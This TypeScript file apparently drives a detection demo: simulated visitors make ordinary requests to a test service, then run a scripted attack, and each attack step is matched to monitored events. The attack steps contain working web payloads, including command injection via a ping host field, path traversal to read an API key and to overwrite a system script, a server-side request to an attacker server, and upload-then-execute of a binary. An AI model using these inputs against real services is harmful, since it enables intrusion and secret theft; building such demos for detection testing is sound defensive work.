/** What the demo's visitors do: ordinary requests first, then an attack, step by step, through the service's holes. */
import { readFileSync } from 'node:fs';

export interface Step {
  /** What the table says of it. */
  readonly tried: string;
  readonly attack: boolean;
  /** @returns whether it worked */
  run(service: Service): Promise<boolean>;
  /** Of an attack: whether an event is the operation that it is about. */
  about?(event: AttackEvent, service: Service): boolean;
}

/** What steps look at in the event of a record. */
export interface AttackEvent {
  readonly kind: string;
  readonly proc?: { readonly path?: string };
  readonly file?: { readonly path?: string };
  readonly net?: { readonly remote_ip?: string };
}

export interface Service {
  readonly base: string;
  /** Where its files lie. */
  readonly directory: string;
  /** Address of the attacker's own server, `host:port`. */
  readonly attacker: string;
}

async function ask(url: string, request?: RequestInit): Promise<{ ok: boolean; text: string }> {
  const answer = await fetch(url, { ...request, signal: AbortSignal.timeout(10_000) });
  return { ok: answer.ok, text: await answer.text() };
}

const query = (path: string, values: Record<string, string>): string => `${path}?${new URLSearchParams(values)}`;

/** A real program, under a harmless name. */
const PAYLOAD = '/usr/bin/id';

export const STEPS: readonly Step[] = [
  {
    tried: 'read a page',
    attack: false,
    run: async ({ base }) => (await ask(base + query('/page', { name: 'index.html' }))).text.includes('Welcome'),
  },
  {
    tried: 'ask the backend',
    attack: false,
    run: async ({ base }) => (await ask(`${base}/stock`)).text === '42 in stock',
  },
  {
    tried: 'upload a picture',
    attack: false,
    run: async ({ base }) =>
      (await ask(base + query('/upload', { name: 'cat.png' }), { method: 'POST', body: 'a picture' })).ok,
  },
  {
    tried: 'spawn a shell',
    attack: true,
    run: async ({ base }) => (await ask(base + query('/ping', { host: 'x; id -u' }))).ok,
    about: ({ kind, proc }) => kind === 'exec' && /\/(da|ba)?sh$/.test(proc?.path ?? ''),
  },
  {
    tried: 'read a secret',
    attack: true,
    run: async ({ base }) =>
      (await ask(base + query('/page', { name: '../secrets/api-key' }))).text.includes('sk_live'),
    about: ({ file }, { directory }) => file?.path === `${directory}/secrets/api-key`,
  },
  {
    tried: 'replace a system program',
    attack: true,
    run: async ({ base }) =>
      (await ask(base + query('/upload', { name: '../system/backup' }), { method: 'POST', body: '#!/bin/sh\n' })).ok,
    about: ({ file }, { directory }) => file?.path === `${directory}/system/backup`,
  },
  {
    tried: 'call out to the attacker',
    attack: true,
    run: async ({ base, attacker }) =>
      (await ask(base + query('/preview', { url: `http://${attacker}/` }))).text === 'welcome home',
    about: ({ net }, { attacker }) => attacker.startsWith(`${net?.remote_ip}:`),
  },
  {
    tried: 'drop a binary and run it',
    attack: true,
    run: async ({ base }) => {
      await ask(base + query('/upload', { name: 'cat2.png' }), { method: 'POST', body: readFileSync(PAYLOAD) });
      return (await ask(base + query('/convert', { tool: '../uploads/cat2.png' }))).text.includes('uid=');
    },
    about: ({ kind, proc }, { directory }) => kind === 'exec' && proc?.path === `${directory}/uploads/cat2.png`,
  },
];
